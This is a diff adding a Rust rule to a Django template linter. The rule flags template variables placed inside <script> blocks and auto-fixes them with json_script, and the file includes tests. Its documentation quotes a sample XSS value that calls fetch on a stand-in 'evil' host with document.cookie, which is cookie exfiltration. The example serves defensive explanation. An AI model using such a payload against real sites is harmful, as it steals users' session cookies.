@@ -1,0 +1,354 @@
+//! DJS520 `template-var-in-script`: `{{ value }}` inside a `<script>` block.
+
+use std::collections::BTreeMap;
+
+use crate::analysis::template::TemplateChecker;
+use crate::analysis::{Edit, Finding, Fix, Severity};
+use crate::rules::templates::{self, Js, Place};
+use crate::rules::{Family, FixAvailability, Rule};
+use crate::syntax::template::lexer::slice;
+use crate::syntax::template::{Element, FilterExpression, Token};
+
+pub const RULE: Rule = Rule {
+    code: "DJS520",
+    name: "template-var-in-script",
+    family: Family::Templates,
+    severity: Severity::Error,
+    fix: FixAvailability::Sometimes,
+    summary: "A template variable is inserted into a `<script>` block, where HTML escaping does not protect it.",
+    django_checks: &[],
+    peers: &["semgrep:var-in-script-tag"],
+    docs: r#"
+## What it does
+Finds `{{ … }}` variables inside `<script>` blocks that run as JavaScript (no `type`, or a
+JavaScript type or `module`; not `application/json`, `text/template` and other data types).
+
+Reported: values in code (`var n = {{ n }};`), in template literals (`` `${…}` `` runs even
+through `|escapejs`), and in quoted strings without `|escapejs`. With `|safe` or under
+`{% autoescape off %}` the finding is an error, otherwise a warning.
+
+Not reported: `"{{ value|escapejs }}"` inside a quoted string (what `escapejs` is for), literals,
+values that cannot hold quotes or code (`|length`, `|date:"Y"`, `.pk`, `.id`, `.count`,
+`forloop.counter`, `csrf_token`), and variables in JavaScript comments.
+
+## Why is this bad?
+Django's autoescaping is HTML escaping. In a script it does not stop a value from being code:
+`var n = {{ n }};` with `n = "0; fetch('//evil/'+document.cookie)"` runs the attacker's code, and
+in a string a backslash or a line break (left as is) ends the string early. With `|safe` a
+`</script>` in the value ends the script block and starts attacker HTML.
+
+## Example
+```django
+<script>
+  const config = {{ config|safe }};
+  const name = "{{ user.name }}";
+</script>
+```
+
+Use instead (`json_script` outputs the value as JSON in its own, safely escaped
+`<script type="application/json">` element):
+```django
+{{ config|json_script:"config-data" }}
+{{ user.name|json_script:"user-name-data" }}
+<script>
+  const config = JSON.parse(document.getElementById("config-data").textContent);
+  const name = JSON.parse(document.getElementById("user-name-data").textContent);
+</script>
+```
+
+## Fix
+Replace the variable (or the quoted string that is exactly the variable) with
+`JSON.parse(document.getElementById("ID").textContent)` and insert
+`{{ value|json_script:"ID" }}` before the `<script>` tag, with the `|safe`, `|escapejs` and
+other escaping filters dropped. Offered when the variable is the whole value in code or the
+whole of a quoted string, and the script is not inside `{% for %}` (where the element id would
+repeat).
+
+## Fix safety
+Unsafe: the JavaScript receives the JSON-decoded value: a string stays a string, but a value
+that was spliced in as code (a number, a list written by `|safe`) becomes its JSON equivalent,
+and Python objects `json_script` cannot serialise make rendering fail. The element id must be
+unique on the page.
+
+## References
+- Django: [`json_script`](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#json-script)
+- Django: [`escapejs`](https://docs.djangoproject.com/en/stable/ref/templates/builtins/#escapejs)
+- OWASP: Cross Site Scripting Prevention Cheat Sheet, rule 3 (JavaScript data values); CWE-79
+"#,
+};
+
+pub fn check(checker: &mut TemplateChecker) {
+    if templates::is_text_template(checker) {
+        return;
+    }
+    let text = checker.source;
+    let syntax = checker.syntax;
+    // Variables per script element.
+    let mut by_script: BTreeMap<usize, Vec<(usize, FilterExpression)>> = BTreeMap::new();
+    for (index, expr) in templates::variables(checker) {
+        if expr.base.is_empty() || templates::is_inert(text, &expr) {
+            continue;
+        }
+        if let Place::Script { element, js: true } =
+            templates::place(checker, syntax.tokens[index].range.start)
+        {
+            by_script.entry(element).or_default().push((index, expr));
+        }
+    }
+    let mut findings = Vec::new();
+    for (element, vars) in by_script {
+        let script = &syntax.elements[element];
+        let offsets: Vec<usize> = vars
+            .iter()
+            .map(|(i, _)| syntax.tokens[*i].range.start)
+            .collect();
+        let skip = templates::django_ranges(checker, script.content.clone());
+        let states = templates::js_states(text, script.content.clone(), &skip, &offsets);
+        for ((index, expr), state) in vars.into_iter().zip(states) {
+            let token = &syntax.tokens[index];
+            let has_escapejs = expr.has_filter(text, "escapejs");
+            let unescaped = templates::marked_safe(text, &expr, false)
+                || syntax
+                    .autoescape_at(text, token.range.start)
+                    .is_some_and(|(_, on)| !on);
+            let name = templates::shown(text, &expr);
+            let message = match state {
+                Js::LineComment | Js::BlockComment => continue,
+                Js::String(_) | Js::Regex if has_escapejs && !unescaped => continue,
+                _ if unescaped => format!(
+                    "{name} is inserted into a `<script>` without any escaping: a `</script>` or a quote in it takes over the page; pass the value with `json_script`"
+                ),
+                Js::String(_) | Js::Regex => format!(
+                    "{name} is inserted into a JavaScript string: HTML escaping leaves backslashes and line breaks, which can end the string; pass the value with `json_script` (or use `|escapejs`)"
+                ),
+                Js::Template => format!(
+                    "{name} is inserted into a JavaScript template literal: `${{…}}` in it runs as code, even through `|escapejs`; pass the value with `json_script`"
+                ),
+                Js::Code if has_escapejs => format!(
+                    "{name} is inserted into JavaScript code: `|escapejs` only protects a value inside a quoted string; pass the value with `json_script`"
+                ),
+                Js::Code => format!(
+                    "{name} is inserted into JavaScript code: HTML escaping does not stop it from running as code; pass the value with `json_script`"
+                ),
+            };
+            let severity = if unescaped {
+                Severity::Error
+            } else {
+                Severity::Warning
+            };
+            let fix = json_script_fix(checker, script, token, &expr, state);
+            findings.push(
+                Finding::new(RULE.code, token.range.clone(), severity, message).with_fix(fix),
+            );
+        }
+    }
+    for finding in findings {
+        checker.report(finding);
+    }
+}
+
+/// Filters dropped when a value moves into `json_script` (which does its own escaping).
+const ESCAPING: &[&str] = &["safe", "safeseq", "escapejs", "escape", "force_escape"];
+
+fn json_script_fix(
+    checker: &TemplateChecker,
+    script: &Element,
+    token: &Token,
+    expr: &FilterExpression,
+    state: Js,
+) -> Option<Fix> {
+    let text = checker.source;
+    let syntax = checker.syntax;
+    if syntax
+        .enclosing_blocks(token.range.start)
+        .any(|b| b.name == "for")
+    {
+        return None;
+    }
+    // What to replace: the variable in code, or the quoted string that is exactly the variable.
+    let target = match state {
+        Js::Code => token.range.clone(),
+        Js::String(q) => {
+            let before = token.range.start.checked_sub(1)?;
+            let bytes = text.as_bytes();
+            if bytes.get(before) != Some(&q) || bytes.get(token.range.end) != Some(&q) {
+                return None;
+            }
+            before..token.range.end + 1
+        }
+        _ => return None,
+    };
+    let mut value = expr.base_text(text).to_string();
+    for filter in &expr.filters {
+        let name = slice(text, &filter.name);
+        if ESCAPING.contains(&name) {
+            continue;
+        }
+        value.push('|');
+        value.push_str(name);
+        if let Some(arg) = &filter.arg {
+            value.push(':');
+            value.push_str(slice(text, arg));
+        }
+    }
+    let (id, existing) = element_id(text, expr.base_text(text), &value);
+    let mut edits = vec![Edit::replace(
+        target,
+        format!("JSON.parse(document.getElementById(\"{id}\").textContent)"),
+    )];
+    if !existing {
+        let at = script.start_tag.start;
+        let indent = templates::line_indent(text, at);
+        let line_start = text
+            .get(..at)
+            .and_then(|s| s.rfind('\n'))
+            .map_or(0, |i| i + 1);
+        let own_line = text
+            .get(line_start..at)
+            .is_some_and(|s| s.chars().all(|c| c == ' ' || c == '\t'));
+        let insert = if own_line {
+            format!(
+                "{{{{ {value}|json_script:\"{id}\" }}}}{}{indent}",
+                templates::line_ending(text)
+            )
+        } else {
+            format!("{{{{ {value}|json_script:\"{id}\" }}}}")
+        };
+        edits.push(Edit::insert(at, insert));
+    }
+    Some(Fix::unsafe_(
+        format!("Pass the value with `json_script` (element id \"{id}\")"),
+        edits,
+    ))
+}
+
+/// An element id for the value: `user.name` gives `user-name-data`. Returns whether the
+/// template already outputs this value under that id (then only the use is replaced); an id
+/// used for something else gets a numeric suffix.
+fn element_id(text: &str, base: &str, value: &str) -> (String, bool) {
+    let mut stem = String::new();
+    for c in base.chars() {
+        if c.is_ascii_alphanumeric() {
+            stem.push(c.to_ascii_lowercase());
+        } else if !stem.ends_with('-') && !stem.is_empty() {
+            stem.push('-');
+        }
+    }
+    let stem = stem.trim_end_matches('-');
+    let stem = if stem.is_empty() { "value" } else { stem };
+    for n in 1.. {
+        let id = if n == 1 {
+            format!("{stem}-data")
+        } else {
+            format!("{stem}-data-{n}")
+        };
+        if text.contains(&format!("{{{{ {value}|json_script:\"{id}\" }}}}")) {
+            return (id, true);
+        }
+        if !text.contains(&format!("\"{id}\"")) && !text.contains(&format!("'{id}'")) {
+            return (id, false);
+        }
+        if n > 1000 {
+            return (id, false);
+        }
+    }
+    (format!("{stem}-data"), false)
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::analysis::testing::{assert_fix_in, codes_at_in, findings_in};
+    use crate::syntax::Language;
+
+    fn codes(src: &str) -> Vec<(&'static str, usize, usize, &'static str)> {
+        codes_at_in(Language::Template, src)
+            .into_iter()
+            .filter(|c| c.0 == "DJS520")
+            .collect()
+    }
+
+    #[test]
+    fn flags_variables_in_scripts() {
+        let src = concat!(
+            "<script>\n",
+            "  var n = {{ n }};\n",
+            "  var s = \"{{ user.name }}\";\n",
+            "  var e = '{{ x|escape }}';\n",
+            "  var t = `hello ${x} {{ name|escapejs }}`;\n",
+            "  var c = {{ config|safe }};\n",
+            "  var j = {{ n|escapejs }};\n",
+            "</script>\n",
+            "{% block js %}<script type=\"module\">{% if a %}go({{ a }}){% endif %}</script>{% endblock %}\n",
+        );
+        assert_eq!(
+            codes(src),
+            vec![
+                ("DJS520", 2, 11, "warning"),
+                ("DJS520", 3, 12, "warning"),
+                ("DJS520", 4, 12, "warning"),
+                ("DJS520", 5, 23, "warning"),
+                ("DJS520", 6, 11, "error"),
+                ("DJS520", 7, 11, "warning"),
+                ("DJS520", 9, 50, "warning"),
+            ]
+        );
+    }
+
+    #[test]
+    fn ignores_safe_look_alikes() {
+        let src = concat!(
+            "<script>\n",
+            "  var a = \"{{ name|escapejs }}\", b = '{{ name|escapejs }}';\n",
+            "  var c = {{ items|length }}, d = {{ obj.pk }}, e = {{ forloop.counter }};\n",
+            "  var f = \"{{ csrf_token }}\", g = {{ 42 }}, h = \"{{ 'lit' }}\";\n",
+            "  var i = {{ when|date:\"Y\" }};\n",
+            "  // var old = {{ old }};\n",
+            "  /* {{ older }} */\n",
+            "</script>\n",
+            "<script type=\"application/json\">{\"a\": \"{{ a }}\"}</script>\n",
+            "<script type=\"text/x-template\"><p>{{ b }}</p></script>\n",
+            "<script type=\"application/ld+json\">{{ c }}</script>\n",
+            "{{ data|json_script:\"data\" }}\n",
+            "<p onclick=\"x\">{{ d }}</p>\n",
+            "{% verbatim %}<script>var v = {{ vue }};</script>{% endverbatim %}\n",
+        );
+        assert_eq!(codes(src), vec![]);
+    }
+
+    #[test]
+    fn unclosed_and_half_typed_scripts() {
+        let src = "<script>\n  var a = {{ a }};\n  var b = {{ b";
+        assert_eq!(codes(src), vec![("DJS520", 2, 11, "warning")]);
+        let src = "<script src=\"x.js\"></script><script>{{";
+        assert_eq!(codes(src), vec![]);
+    }
+
+    #[test]
+    fn fix_moves_the_value_to_json_script() {
+        let src = "<div>\n  <script>\n    const config = {{ config|safe }};\n    const name = \"{{ user.name|default:'x' }}\";\n  </script>\n</div>\n";
+        let fixed = assert_fix_in(Language::Template, src, "DJS520");
+        assert_eq!(
+            fixed,
+            "<div>\n  {{ config|json_script:\"config-data\" }}\n  {{ user.name|default:'x'|json_script:\"user-name-data\" }}\n  <script>\n    const config = JSON.parse(document.getElementById(\"config-data\").textContent);\n    const name = JSON.parse(document.getElementById(\"user-name-data\").textContent);\n  </script>\n</div>\n"
+        );
+    }
+
+    #[test]
+    fn fix_reuses_an_existing_element_and_avoids_taken_ids() {
+        let src = "{{ x|json_script:\"x-data\" }}<script>a({{ x }}); b({{ y }});</script><p id=\"y-data\"></p>";
+        let fixed = assert_fix_in(Language::Template, src, "DJS520");
+        assert_eq!(
+            fixed,
+            "{{ x|json_script:\"x-data\" }}{{ y|json_script:\"y-data-2\" }}<script>a(JSON.parse(document.getElementById(\"x-data\").textContent)); b(JSON.parse(document.getElementById(\"y-data-2\").textContent));</script><p id=\"y-data\"></p>"
+        );
+    }
+
+    #[test]
+    fn no_fix_in_loops_or_partial_strings() {
+        let src = "{% for i in items %}<script>f({{ i.name }});</script>{% endfor %}<script>var s = \"Hi {{ name }}!\"; var t = `{{ t }}`;</script>";
+        let f = findings_in(Language::Template, src);
+        let ours: Vec<_> = f.iter().filter(|f| f.code == "DJS520").collect();
+        assert_eq!(ours.len(), 3);
+        assert!(ours.iter().all(|f| f.fix.is_none()));
+    }
+}
